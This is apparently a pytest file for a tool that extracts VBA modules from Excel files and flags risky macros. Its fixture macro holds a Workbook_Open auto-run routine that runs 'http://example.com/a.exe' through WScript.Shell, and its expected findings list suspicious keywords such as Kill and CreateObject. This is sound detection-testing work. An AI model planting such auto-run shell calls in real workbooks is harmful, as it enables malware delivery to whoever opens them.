"""Macro projects in compound files and zips, whole and broken."""

import struct
import zipfile

import pytest

from tallygrid.sources import macros

END, FREE, FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def squeezed(data):
    """A compressed container of literals."""
    out = b"\x01"
    for k in range(0, max(1, len(data)), 3600):
        body = b"".join(b"\x00" + data[j : j + 8] for j in range(k, min(len(data), k + 3600), 8))
        out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body
    return out


def record(kind, value):
    return struct.pack("<HI", kind, len(value)) + value


def compound(streams):
    """A compound file of 512-byte sectors; paths name storages. Streams under 4,096 bytes go into the small stream."""
    names, kids = ["Root Entry"], {0: []}
    where = {"": 0}
    for path in streams:
        for depth in range(1, path.count("/") + 2):
            part = "/".join(path.split("/")[:depth])
            if part not in where:
                where[part] = len(names)
                kids[where[part]] = []
                kids[where[part.rpartition("/")[0]]].append(where[part])
                names.append(part.rpartition("/")[2])
    sectors, fat, mini, mini_fat, at = [], [], b"", [], {}

    def put(data):
        first = len(sectors)
        for k in range(0, len(data), 512):
            sectors.append(data[k : k + 512].ljust(512, b"\0"))
            fat.append(len(sectors))
        fat[-1] = END
        return first

    for path, data in streams.items():
        if len(data) >= 4096:
            at[where[path]] = (put(data), len(data))
        else:
            n = max(1, -(-len(data) // 64))
            at[where[path]] = (len(mini_fat), len(data))
            mini_fat += [*range(len(mini_fat) + 1, len(mini_fat) + n), END]
            mini += data.ljust(n * 64, b"\0")
    at[0] = (put(mini), len(mini)) if mini else (END, 0)
    mini_at = put(b"".join(struct.pack("<I", x) for x in mini_fat).ljust(512, b"\xff")) if mini_fat else END
    right = {a: b for members in kids.values() for a, b in zip(members, members[1:], strict=False)}
    entries = b""
    for k, name in enumerate(names):
        raw = name.encode("utf-16-le") + b"\0\0"
        kind = 5 if k == 0 else 2 if k in at else 1
        entries += raw.ljust(64, b"\0") + struct.pack("<HBB3I", len(raw), kind, 1, FREE, right.get(k, FREE), kids[k][0] if kids[k] else FREE) + b"\0" * 36 + struct.pack("<IQ", *at.get(k, (0, 0)))
    directory = put(entries)
    n_fat = 1
    while n_fat * 128 < len(sectors) + n_fat:
        n_fat += 1
    fats = list(range(len(sectors), len(sectors) + n_fat))
    table = b"".join(struct.pack("<I", x) for x in [*fat, *[FAT] * n_fat]).ljust(n_fat * 512, b"\xff")
    head = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 + struct.pack("<9I", 0, n_fat, directory, 0, 4096, mini_at, 1, END, 0)
    return head + b"".join(struct.pack("<I", x) for x in [*fats, *[FREE] * (109 - n_fat)]) + b"".join(sectors) + table


def project(modules, above="", forms=()):
    """modules: (name, class or not, source)."""
    listing = record(0x03, struct.pack("<H", 1252)) + struct.pack("<HI", 9, 4) + b"\1\0\0\0\2\0"
    out = {}
    for name, is_class, source in modules:
        listing += record(0x19, name.encode("cp1252")) + record(0x1A, name.encode("cp1252")) + record(0x32, name.encode("utf-16-le")) + record(0x31, struct.pack("<I", 7)) + record(0x22 if is_class else 0x21, b"") + record(0x2B, b"")
        out[f"{above}VBA/{name}"] = b"cached!" + squeezed(source.encode("cp1252"))
    forms = "".join(f"BaseClass={f}\r\n" for f in forms)
    return {f"{above}VBA/dir": squeezed(listing), **out, f"{above}PROJECT": f'ID="x"\r\n{forms}'.encode()}


def zipped(path, part=None):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        if part is not None:
            z.writestr("xl/vbaProject.bin", part)


LOUD = """Attribute VB_Name = "Sheet1"
Attribute VB_Base = "0{00020819-0000-0000-C000-000000000046}"
Private Sub Workbook_Open()
  x = "it's fine ' Application.Calculation = 1"   ' Application.Iteration = True
  Application.Calculation = xlManual
  Range("A1").Value = 3
  rng.Value = other.Value2
  CreateObject("WScript.Shell").Run "http://example.com/a.exe"
  Shelly = 1 ' Kill
End Sub"""


@pytest.fixture(scope="module")
def found(spark, tmp_path_factory):
    at = tmp_path_factory.mktemp("books")
    zipped(at / "loud.xlsm", compound(project([("Sheet1", True, LOUD), ("Größe", False, "Sub a()\r\nEnd Sub"), ("Form1", True, "' nothing")], forms=["Form1"])))
    (at / "old.xls").write_bytes(compound(project([("Long", False, "Sub x()\n" + "y = y + 1\n" * 2000 + "Sheet1.Calculate\nEnd Sub")], "_VBA_PROJECT_CUR/")))
    zipped(at / "plain.xlsx")
    (at / "locked.xlsm").write_bytes(compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y"}))
    zipped(at / "cut.xlsm", compound(project([("M", False, "Sub a()\nEnd Sub")]))[:700])
    (at / "text.xlsm").write_bytes(b"no workbook")
    broken = project([("Good", False, "Sub g()\nEnd Sub"), ("Bad", False, "x")])
    zipped(at / "partial.xlsm", compound(broken | {"VBA/Bad": b"cached!\x02nothing"}))
    return macros.modules(spark, str(at / "*")).cache()


def test_modules_and_states(found):
    rows = {(r["workbook_id"], r["module"]): r for r in found.collect()}
    assert {k: r["state"] for k, r in rows.items()} == {
        ("loud.xlsm", "Sheet1"): "ok", ("loud.xlsm", "Größe"): "ok", ("loud.xlsm", "Form1"): "ok", ("old.xls", "Long"): "ok", ("plain.xlsx", None): "no project", ("locked.xlsm", None): "encrypted",
        ("cut.xlsm", None): "malformed", ("text.xlsm", None): "malformed", ("partial.xlsm", "Good"): "ok", ("partial.xlsm", "Bad"): "partial",
    }
    assert [rows["loud.xlsm", m]["module_type"] for m in ("Sheet1", "Größe", "Form1")] == ["cls", "bas", "frm"]
    assert rows["loud.xlsm", "Sheet1"]["source"] == LOUD and rows["loud.xlsm", "Größe"]["lines"] == 2 and rows["old.xls", "Long"]["lines"] == 2003
    assert rows["old.xls", "Long"]["stream"] == "_VBA_PROJECT_CUR/VBA/Long"


def test_macro_findings(found):
    got = {(r["workbook_id"], r["check_id"]): (r["detail"], r["severity"], r["confidence"]) for r in macros.macro_findings(found).collect()}
    assert got == {
        ("loud.xlsm", "T0-VBA-001"): ("3: Form1, Größe, Sheet1", "medium", 100), ("old.xls", "T0-VBA-001"): ("1: Long", "medium", 100), ("partial.xlsm", "T0-VBA-001"): ("2: Bad, Good", "medium", 100),
        ("loud.xlsm", "T0-VBA-002"): ("Sheet1 (Workbook_Open)", "high", 100), ("loud.xlsm", "T0-VBA-003"): ("Sheet1 (CreateObject, Kill, WScript.Shell)", "medium", 95),
        ("loud.xlsm", "T0-VBA-004"): ("Sheet1 (http://example.com/a.exe)", "high", 95),
        ("loud.xlsm", "T0-VBA-005"): ("Sheet1 (Application.Calculation (mode change), Copy-as-values pattern)", "high", 90), ("old.xls", "T0-VBA-005"): ("Long (Explicit .Calculate call)", "high", 90),
    }


def test_copies_are_expanded():
    """Containers as the format's description gives them."""
    data = bytes.fromhex("012FB00023616161626364658266007061676869" + "6A013808616B6C00306D6E6F70067102700410727374757610777879 7A003C".replace(" ", ""))
    assert macros.expanded(data) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    assert macros.expanded(bytes.fromhex("0103B002614500")) == b"a" * 73
    assert macros.expanded(squeezed(b"x" * 9000)) == b"x" * 9000
    for bad in (b"", b"\x02", b"\x01\x03\xb0\x02\x61\xff\xff", b"\x01\x02\xb0\x01\x45\x00"):
        with pytest.raises(macros.Malformed):
            macros.expanded(bad)


def test_chains_and_directories_that_do_not_end():
    whole = compound(project([("Long", False, "y = 1\n" * 2000)]))
    table = whole.index(struct.pack("<II", 1, 2), 512)
    assert list(macros.project_rows(whole[:table] + struct.pack("<I", 0) + whole[table + 4 :], "w"))[0][1] in ("malformed", "partial")
    for size in range(0, len(whole), 173):
        assert list(macros.project_rows(whole[:size], "w"))  # a state, whatever is missing
